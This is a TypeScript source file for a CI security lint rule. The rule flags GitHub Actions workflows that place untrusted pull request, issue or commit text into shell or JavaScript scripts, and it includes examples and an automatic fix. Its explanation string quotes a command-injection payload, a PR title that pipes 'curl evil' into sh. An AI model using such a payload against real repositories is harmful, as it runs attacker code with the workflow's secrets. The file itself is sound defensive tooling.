import { codeFrame, lineOf } from '../../analysis/code-frame.ts';
import { expressionsIntoVariables } from '../../analysis/expression-variables.ts';
import { literalPattern } from '../../analysis/literal-pattern.ts';
import { workflowParts } from '../../analysis/workflow.ts';
import type { Workflow } from '../../evidence/collectors/workflows.ts';
import { defineRule, failBy, notApplicable, type Rule, type RuleFinding } from '../rule.ts';

/** What strangers write: titles, names of branches, bodies, messages, e-mail names. */
const written =
  /\bgithub\.(?:head_ref|event\.(?:(?:issue|pull_request|discussion)\.(?:title|body)|(?:comment|review|review_comment)\.body|pull_request\.head\.(?:ref|label|repo\.default_branch)|pages\b[^}]*page_name|(?:commits\b[^}]*|head_commit)\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.message|display_title|head_commit\.author\.(?:email|name)|pull_requests\b[^}]*head\.ref)|inputs\.[\w-]+))/;
const expressions = /\$\{\{([^}]*)\}\}/g;
/** What who starts a workflow by hand fills in: a member writes it. */
const byMembers = /\b(?:github\.event\.)?inputs\.[\w-]+/g;
/** `x == 'true' && '-p' || ''`: whatever was written, one of two literals comes out. */
const isChoice = /^[^&|]*[!=]=[^&|]*&&\s*'[^']*'\s*\|\|\s*'[^']*'$/;
/** Actions that run the script that they are given. */
const runsScript: Readonly<Record<string, string>> = { 'actions/github-script': 'script' };

/** Text of strangers never becomes part of a script. */
export const rule: Rule = defineRule({
  id: 'ci/untrusted-input',
  practice: 'C13',
  severity: 'high',
  confidence: 'likely',
  cwe: 94,
  controls: ['asvs5:1.2.5', 'asvs5:1.3.2'],
  title: 'No workflow builds a script from what strangers write',
  why: 'An expression is put into the script before the shell reads it: a pull request named `"; curl evil | sh; "` runs with the secrets of the workflow.',
  fix: 'Give the value to the step as an environment variable, `env: { TITLE: ${{ github.event.pull_request.title }} }`, and write `"$TITLE"` in the script.',
  needs: ['workflows'],
  run({ workflows }) {
    if (workflows.length === 0) return notApplicable('there is no GitHub Actions workflow');
    return failBy(workflows.flatMap(findingsIn), 'no script holds such an expression');
  },
  mend: {
    title: 'Hand the value to the shell by an environment variable of the step',
    offer({ place, identity }, { workflows }) {
      const workflow = workflows.find(({ path }) => path === place?.file);
      const edits = workflow && expressionsIntoVariables(workflow, identity);
      return edits && { title: `Hand \${{ ${identity} }} over by a variable`, edits };
    },
  },
  examples: [
    {
      title: 'given by an environment variable',
      given: step(
        'env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"',
      ),
      expect: 'pass',
    },
    {
      title: 'a number, a digest and a name of the host',
      given: step(
        'run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ github.repository }}',
      ),
      expect: 'pass',
    },
    {
      title: 'the title in a script',
      given: step('run: echo "${{ github.event.issue.title }}"'),
      expect: 'fail',
      at: ['.github/workflows/ci.yml:5'],
      fixed: step(
        'run: echo "${ISSUE_TITLE}"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}',
      ),
    },
    {
      title: 'without quotes in a script of several lines, beside another variable',
      given: step(
        "env:\n          A: 1\n        run: |\n          # don't\n          git log -1\n          echo title=${{github.event.issue.title}} > out",
      ),
      expect: 'fail',
      fixed: step(
        'env:\n          A: 1\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n        run: |\n          # don\'t\n          git log -1\n          echo title="${ISSUE_TITLE}" > out',
      ),
    },
    {
      title: 'in single quotes, where a shell puts nothing in',
      given: step("run: echo '${{ github.event.issue.title }}'"),
      expect: 'fail',
      fixed: {},
    },
    {
      title: 'in a script of another shell',
      given: step('shell: pwsh\n        run: echo "${{ github.event.issue.title }}"'),
      expect: 'fail',
      fixed: {},
    },
    {
      title: 'the branch of a stranger within an expression',
      given: step(
        "run: |\n          git fetch\n          git checkout ${{ github.head_ref || 'main' }}",
      ),
      expect: 'fail',
      at: ['.github/workflows/ci.yml:7'],
    },
    {
      title: 'in a script of JavaScript',
      given: step(
        'uses: actions/github-script@v7\n        with:\n          script: console.log("${{ github.event.comment.body }}")',
      ),
      expect: 'fail',
      at: ['.github/workflows/ci.yml:7'],
    },
    {
      title: 'in a group and in a script: told where the script is',
      given: {
        '.github/workflows/ci.yml':
          'on: pull_request\nconcurrency:\n  group: ci-${{ github.head_ref }}\njobs:\n  a:\n    steps:\n      - run: |\n          npm test\n          echo ${{ github.head_ref }}\n',
      },
      expect: 'fail',
      at: ['.github/workflows/ci.yml:9'],
    },
    {
      title: 'as a condition, which is no script',
      given: step("if: contains(github.event.comment.body, 'x')\n        run: npm test"),
      expect: 'pass',
    },
    {
      title: 'one of two literals, whatever was written',
      given: step("run: npm publish ${{ github.event.issue.title == 'x' && '--tag x' || '' }}"),
      expect: 'pass',
    },
    { title: 'no workflow', expect: 'not-applicable' },
  ],
});

function findingsIn({ path, text, data }: Workflow): RuleFinding[] {
  const { jobs, triggers } = workflowParts(data);
  const isForMembers = triggers.every(
    (one) => one === 'workflow_dispatch' || one === 'schedule' || one === 'workflow_call',
  );
  const scripts = jobs.flatMap(({ steps }) =>
    steps.flatMap(({ run, uses, with: given }) => {
      const key = runsScript[(uses ?? '').replace(/@.*$/, '')];
      const script = key === undefined ? run : given[key];
      return typeof script === 'string' ? [script] : [];
    }),
  );
  const found = scripts.flatMap((script) =>
    [...script.matchAll(expressions)].map(([, inner]) => inner!.trim()),
  );
  const lines = new Set(scripts.flatMap((script) => script.split('\n').map((one) => one.trim())));
  return [...new Set(found.filter((inner) => written.test(inner) && !isChoice.test(inner)))].map(
    (inner) => {
      const line = lineOfScript(text, lines, inner);
      return {
        place: { file: path, ...(line !== undefined && { line }) },
        message: `\${{ ${inner} }} becomes part of a script`,
        identity: inner,
        ...(line !== undefined && { frame: codeFrame(text, line) }),
        ...((isForMembers || !written.test(inner.replace(byMembers, ''))) && {
          severity: 'low',
          confidence: 'possible',
        }),
      } satisfies RuleFinding;
    },
  );
}

/** Where a script says it; a condition or a group may say it before. */
function lineOfScript(text: string, lines: ReadonlySet<string>, inner: string): number | undefined {
  const at = text
    .split('\n')
    .findIndex(
      (one) =>
        one.includes(inner) && lines.has(one.replace(/^\s*(?:-\s+)?(?:run|script):\s+/, '').trim()),
    );
  if (at >= 0) return at + 1;
  const place = new RegExp(
    `^(?!\\s*(?:if|name|group|[A-Z_]+):)[^#\\n]*\\$\\{\\{\\s*${literalPattern(inner)}`,
    'm',
  );
  return lineOf(text, place);
}

function step(body: string): Record<string, string> {
  return {
    '.github/workflows/ci.yml': `on: pull_request\njobs:\n  a:\n    steps:\n      - ${body}\n`,
  };
}
